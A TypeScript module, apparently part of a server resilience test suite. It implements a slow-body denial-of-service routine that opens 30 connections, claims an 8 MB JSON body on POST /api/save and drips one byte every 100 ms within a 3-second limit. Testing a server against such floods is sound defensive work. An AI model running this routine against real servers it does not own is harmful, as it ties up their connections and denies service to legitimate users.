import { once } from 'node:events'
import { connect } from 'node:net'
import { type Attack, answersOf } from './attack.ts'

const CONNECTIONS = 30
const MOST_MS = 3000
const EVERY_MS = 100

/** Opens many connections, promises a lot on each and sends a byte now and then. */
export const slowBodies: Attack = ({ visitor, signal }) =>
  answersOf(...Array.from({ length: CONNECTIONS }, () => sendSlowly(visitor.url, visitor.cookie, signal)))

async function sendSlowly(url: string, cookie: string, signal: AbortSignal): Promise<undefined> {
  const { hostname, port, host } = new URL(url)
  const socket = connect(Number(port), hostname)
  socket.on('error', () => undefined)
  const patience = AbortSignal.any([signal, AbortSignal.timeout(MOST_MS)])
  patience.addEventListener('abort', () => socket.destroy())
  socket.write(
    `POST /api/save HTTP/1.1\r\nhost: ${host}\r\norigin: ${url}\r\ncookie: ${cookie}\r\ncontent-type: application/json\r\ncontent-length: 8000000\r\n\r\n{`,
  )
  const drip = setInterval(() => socket.write(' '), EVERY_MS)
  if (patience.aborted) socket.destroy()
  await once(socket, 'close')
  clearInterval(drip)
  return undefined
}
